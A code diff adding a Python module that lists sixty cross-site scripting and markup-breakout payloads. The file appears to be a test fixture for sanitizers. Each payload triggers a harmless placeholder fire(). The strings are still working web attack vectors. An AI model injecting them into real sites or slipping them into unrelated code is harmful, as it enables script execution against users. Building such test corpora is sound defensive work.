@@ -1,0 +1,73 @@
+"""Sixty texts that run as a script, or break out of their place, where a page takes text for markup."""
+
+from __future__ import annotations
+
+__all__ = ["PAYLOADS"]
+
+PAYLOADS = [
+    # Elements that run by being there.
+    "<img src=x onerror=fire()>",
+    "<script>fire()</script>",
+    "<ScRiPt>fire()</ScRiPt>",
+    "<script src=data:text/javascript,fire()></script>",
+    "<svg onload=fire()>",
+    "<svg><script>fire()</script></svg>",
+    "<svg><animate onbegin=fire() attributeName=x dur=1s>",
+    "<svg><set onbegin=fire() attributename=x>",
+    "<svg><a xlink:href=javascript:fire()><text y=9>x</text></a></svg>",
+    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg onload=fire()></svg>#x'></svg>",
+    "<math><mtext></mtext><img src=x onerror=fire()></math>",
+    "<math><maction actiontype=statusline xlink:href=javascript:fire()>x</maction></math>",
+    "<iframe srcdoc='<script>parent.fire()</script>'></iframe>",
+    "<iframe src=javascript:parent.fire()></iframe>",
+    "<object data=javascript:fire()></object>",
+    "<embed src=javascript:fire()>",
+    "<body onload=fire()>",
+    "<body onpageshow=fire()>",
+    "<video><source onerror=fire()></video>",
+    "<video src=x onerror=fire()></video>",
+    "<audio src=x onerror=fire()></audio>",
+    "<picture><source srcset=x><img onerror=fire() src=x></picture>",
+    "<image src=x onerror=fire()>",
+    "<input autofocus onfocus=fire()>",
+    "<input type=image src=x onerror=fire()>",
+    "<select autofocus onfocus=fire()>",
+    "<textarea autofocus onfocus=fire()>",
+    "<button popovertarget=x onbeforetoggle=fire()>x</button>",
+    "<div contenteditable autofocus onfocus=fire()>x</div>",
+    "<details open ontoggle=fire()>",
+    "<marquee onstart=fire()>x</marquee>",
+    "<style>@keyframes x{}</style><b style='animation-name:x' onanimationstart=fire()>x</b>",
+    "<style>@import 'x'</style>",
+    "<link rel=stylesheet href=x onerror=fire()>",
+    "<link rel=modulepreload href=data:text/javascript,fire()>",
+    "<meta http-equiv=refresh content='0;url=javascript:fire()'>",
+    "<base href=javascript:fire()//>",
+    "<form action=javascript:fire()><button autofocus>x</button></form>",
+    "<template shadowrootmode=open><img src=x onerror=fire()></template>",
+    "<noscript><p title='</noscript><img src=x onerror=fire()>'></noscript>",
+    "<xss id=x tabindex=1 onfocus=fire() autofocus></xss>",
+    # Ways out of an attribute, a comment, a script or another element.
+    '"><img src=x onerror=fire()>',
+    "'><svg/onload=fire()>",
+    '" onmouseover="fire()" x="',
+    "' style='background:url(x)' onmouseover='fire()",
+    "</script><script>fire()</script>",
+    "</title><img src=x onerror=fire()>",
+    "--><img src=x onerror=fire()>",
+    "]]><img src=x onerror=fire()>",
+    # Addresses.
+    "javascript:fire()",
+    "java\tscript:fire()",
+    "<a href=javascript:fire()>x</a>",
+    "data:text/html,<script>parent.fire()</script>",
+    # Templates, and names of what every object has.
+    "{{constructor.constructor('fire()')()}}",
+    "${fire()}",
+    "__proto__",
+    "constructor",
+    # Other spellings.
+    "\u202e<img src=x onerror=fire()>",
+    "&lt;img src=x onerror=fire()&gt;",
+    "\uff1cimg src=x onerror=fire()\uff1e",
+]
